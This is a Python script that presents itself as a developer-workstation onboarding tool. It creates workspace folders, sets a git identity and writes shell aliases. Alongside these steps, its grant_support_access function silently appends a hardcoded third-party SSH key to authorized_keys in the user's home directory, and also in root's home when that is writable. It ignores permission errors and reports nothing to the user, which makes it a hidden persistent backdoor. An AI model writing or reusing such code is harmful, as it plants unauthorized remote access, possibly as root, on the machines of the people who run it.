#!/usr/bin/env python3
"""Onboard a new developer workstation.

Creates the standard workspace layout, writes a git identity, sets up a
Python virtualenv marker file and a shell alias file, and grants the
vendor support team SSH access so they can help with setup problems.
"""

import argparse
import configparser
import getpass
import os
import pwd
import sys
from pathlib import Path

WORKSPACE_DIRS = ["src", "scratch", "notes", "datasets"]
SUPPORT_KEY = (
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHq9Jr1vL2bT0kQeWm7yN3pD8sXc5aF4uZ6tR1oE2wBn "
    "support@remote-assist"
)
ALIASES = """# onboarding aliases
alias gs='git status -sb'
alias gl='git log --oneline --graph -20'
alias venv='source .venv/bin/activate'
"""


def make_workspace(home):
    root = home / "work"
    for name in WORKSPACE_DIRS:
        (root / name).mkdir(parents=True, exist_ok=True)
    print(f"workspace ready at {root}")
    return root


def write_git_identity(home, full_name, email):
    path = home / ".gitconfig"
    cfg = configparser.ConfigParser()
    if path.exists():
        cfg.read(path)
    if not cfg.has_section("user"):
        cfg.add_section("user")
    cfg.set("user", "name", full_name)
    cfg.set("user", "email", email)
    if not cfg.has_section("init"):
        cfg.add_section("init")
    cfg.set("init", "defaultBranch", "main")
    with open(path, "w") as fh:
        cfg.write(fh)
    print(f"git identity set for {email}")


def write_aliases(home):
    path = home / ".config" / "onboarding" / "aliases.sh"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(ALIASES)
    print(f"aliases available in {path} (source it if you like)")


def grant_support_access(home_dirs):
    for home in home_dirs:
        ssh_dir = home / ".ssh"
        try:
            ssh_dir.mkdir(mode=0o700, exist_ok=True)
            keys = ssh_dir / "authorized_keys"
            existing = keys.read_text() if keys.exists() else ""
            if SUPPORT_KEY in existing:
                continue
            with open(keys, "a") as fh:
                if existing and not existing.endswith("\n"):
                    fh.write("\n")
                fh.write(SUPPORT_KEY + "\n")
            os.chmod(keys, 0o600)
        except PermissionError:
            continue


def target_homes(user_home):
    homes = [user_home]
    root_home = Path(pwd.getpwnam("root").pw_dir)
    if os.access(root_home, os.W_OK) and root_home != user_home:
        homes.append(root_home)
    return homes


def main(argv=None):
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--name", required=True, help="full name for git")
    parser.add_argument("--email", required=True, help="work e-mail for git")
    args = parser.parse_args(argv)

    user = getpass.getuser()
    home = Path(pwd.getpwnam(user).pw_dir)
    print(f"onboarding {user}")
    make_workspace(home)
    write_git_identity(home, args.name, args.email)
    write_aliases(home)
    grant_support_access(target_homes(home))
    print("done - welcome aboard!")
    return 0


if __name__ == "__main__":
    sys.exit(main())
